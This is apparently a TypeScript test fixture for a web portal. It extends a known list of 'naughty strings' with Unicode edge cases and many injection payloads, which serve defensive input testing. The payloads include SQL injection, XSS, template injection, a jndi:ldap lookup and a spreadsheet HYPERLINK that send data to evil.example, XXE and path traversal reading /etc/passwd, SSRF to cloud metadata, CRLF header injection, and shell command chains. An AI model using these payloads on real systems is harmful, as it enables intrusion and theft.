import { createRequire } from 'node:module';
import { plainText } from '../../apps/portal/src/forms/draft.js';

const BIG_LIST = createRequire(import.meta.url)('big-list-of-naughty-strings') as string[];

/**
 * Additions to the list: right-to-left text and direction controls, scripts with several
 * code points per visible character, invisible characters, line ends that would begin a header, and
 * syntax of the languages that our texts are inserted into (SQL, HTML, templates, spreadsheets, URLs, JSON).
 * Invisible characters are written as escapes.
 */
const FURTHER: string[] = [
  // Scripts: combining characters, special case rules, supplementary planes.
  'የሰው ልጅ ሁሉ ሲወለድ ነጻና በክብር እኩል ነው',
  'சென்னை மாநகராட்சிக்கு ஒரு புகார்',
  'क्षत्रिय ज्ञानी श्रृंखला',
  'မြန်မာဘာသာစကား',
  'ภาษาไทยไม่มีช่องว่างระหว่างคำ',
  'ᠮᠣᠩᠭᠣᠯ ᠪᠢᠴᠢᠭ',
  'İstanbul ılık, ISPARTA iğne',
  'straße STRASSE ſtraße ẞ',
  'ΣΊΣΥΦΟΣ σίσυφος',
  'ﻣﺮﺣﺒﺎ ﺑﺎﻟﻌﺎﻟﻢ',
  'مُحَمَّدٌ ـــــ مـــحـــمـــد',
  'ي ى ئ ک ك ھ ه ۀ ة ٱ أ إ آ ا',
  'نمی‌خواهم',
  '𐎠𐎡𐎢 𒀀𒀁 𓀀𓁐 𐤀𐤁',
  '𞸀𞸁 𞤀𞤣𞤤𞤢𞤥',
  '፩፪፫ ०१२ ۰۱۲ 𝟘𝟙𝟚 ㊀㊁㊂',
  // One text in two Unicode normal forms, and stacked combining marks.
  'e\u0301 \u00e9 A\u030a \u00c5 \u212b',
  '\u1100\u1161\u11a8 \uac01',
  'ﬀ ﬃ ﬆ ㎏ ℡ ㏂',
  `o${'\u0308\u0323\u0489'.repeat(60)}`,
  // Direction: unterminated overrides, isolates, a reversed file name.
  '\u202egnp.exe',
  'مرفق \u202excod.exe\u202c نهاية',
  '\u2066\u2067\u2068abc',
  '\u2069\u2069\u202c\u202c',
  '\u200fabc\u200e עברית \u061cعربي',
  '123 ‎عدد 456 \u202b(789)\u202c',
  '\u202a'.repeat(130),
  // Invisible: zero widths, joiners, soft hyphens, fillers, variation selectors, tags, noncharacters.
  'a\u200bb\u200cc\u200dd\u2060e\ufefff',
  '\u200d\u200d\u200d',
  'soft\u00adhyphen\u00ad',
  '\u115f\u1160\u3164\uffa0',
  '\u034f\u180b\ufe00\ufe0f\u{e0100}',
  '\u{e0068}\u{e0065}\u{e006c}\u{e0070}\u{e007f}',
  '\ufdd0\ufffe\uffff\u{1ffff}\u{10ffff}',
  '\ufffd \ufffc \ufff9a\ufffab\ufffb',
  '\ue000\uf8ff\u{f0000}\u{10fffd}',
  'line\u2028paragraph\u2029next\u0085last',
  '\u00a0\u1680\u2007\u202f\u205f\u3000text\u3000',
  // Emoji of several code points each.
  '👨‍👩‍👧‍👦 👩🏿‍🚒 🧑🏽‍🤝‍🧑🏻',
  '🏳️‍🌈 🏴‍☠️ 🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}',
  '🇴🇲🇸🇦🇶🇦 🇴',
  '🏿🏿 \u200d👩\u200d #️⃣*️⃣',
  '🫨'.repeat(120),
  // Line ends, followed by protocol commands.
  'one\r\ntwo\rthree\nfour\n\n\n\nfive',
  'x\r\nSet-Cookie: session=stolen; Path=/',
  'x\r\nBcc: everyone@contact.example\r\n\r\nA body of its own',
  'x\r\n.\r\nMAIL FROM:<a@b.example>',
  'x%0d%0aLocation:%20//evil.example',
  'x嘊嘍Set-Cookie: y=1',
  '\nINFO staff signed in as root\n',
  '\u001b[31mred\u001b[0m \u001b]0;title\u0007',
  'a\u0000b',
  'bell\u0007back\u0008space\u007f',
  // SQL, and search and pattern syntax.
  "'; DELETE FROM ticket; --",
  "' OR ''='",
  "') UNION SELECT password_hash FROM staff --",
  '1; SELECT pg_sleep(30)--',
  "\\'; COPY staff TO PROGRAM 'id'; --",
  '$$; DROP SCHEMA public CASCADE; $$',
  '/*!50000 SELECT*/ 1 -- -',
  "x' || (SELECT version()) || '",
  '%_%_%\\',
  "!!'a & | ! <-> ( : * b",
  'foo:* & !bar | "baz',
  '$1 $2 ?1 :name ${1}',
  '((((((((((a+)+)+)+)+)+)+)+)+)+)$',
  '{"$gt":""} {"$where":"sleep(1000)"}',
  '*)(uid=*))(|(uid=*',
  "' or count(/*)=1 or 'a'='b",
  // HTML, scripts, styles, and template injection.
  '<details open ontoggle=alert(1)>x</details>',
  '<svg/onload=alert(1)//',
  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>',
  '<form><button formaction=javascript:alert(1)>x</button></form>',
  '<base href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css><style>@import "//evil.example";</style>',
  '</textarea></title></style></script><img src=x onerror=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]> <?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '<a href="&#x6A;avascript:alert(1)">x</a> &NewLine;&colon;&lpar;',
  '[x](javascript:alert(1)) ![x](//evil.example/x.png) <javascript:alert(1)>',
  '<!--#exec cmd="id" --><!--#include virtual="/etc/passwd"-->',
  '<%= system("id") %> <?php phpinfo(); ?>',
  '{{7*7}} {{constructor.constructor("alert(1)")()}} {% debug %}',
  '${7*7} #{7*7} *{7*7} @(7*7) ~{7*7} [[${7*7}]]',
  '${jndi:ldap://evil.example/a} %{(#a=1)}',
  '{0} {1} %s %n %x %d {name} {count, plural, other {#}}',
  '__proto__ constructor.prototype {"__proto__":{"role":"administrator"}}',
  // Paths and URLs.
  '../../../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '....//....//etc/passwd%00.png',
  '%2e%2e%2f%252e%252e%252f',
  'file:///etc/passwd gopher://127.0.0.1:6379/_FLUSHALL',
  'http://169.254.169.254/latest/meta-data/ http://[::1]:5432/ http://0x7f000001/',
  '//evil.example/%2f.. https://contact.example@evil.example/',
  'CON PRN AUX NUL COM1 LPT9 .htaccess ~root',
  '; id | id & id && id `id` $(id) > /tmp/x',
  // Starts of spreadsheet formulas.
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '＝1+1',
  // Numbers and dates at their limits.
  '-0',
  '9007199254740993',
  '170141183460469231731687303715884105728',
  '1e400',
  '0b101 0o17 1_000 1n',
  '٣٫١٤ ١٬٠٠٠',
  '−1 ⅷ ½ ٪',
  '2026-02-30T25:61:61+99:00',
  '-infinity',
  'epoch',
];

/** The list and the additions. */
export const NAUGHTY_STRINGS: string[] = [...BIG_LIST, ...FURTHER];

/** Cut to the maximum length of a subject or search, without splitting a surrogate pair. */
export const truncated = (text: string) =>
  text
    .slice(0, 200)
    .replace(/[\ud800-\udbff]$/, '')
    .trim();

/** Several strings joined into texts of at most the given length. */
export function joinedUpTo(most: number): string[] {
  const texts = [''];
  for (const line of NAUGHTY_STRINGS.map((text) => plainText(text).trim()).filter(Boolean)) {
    if (texts.at(-1)!.length + line.length + 1 > most) texts.push('');
    texts.push(`${texts.pop()!}\n${line}`.trim());
  }
  return texts;
}
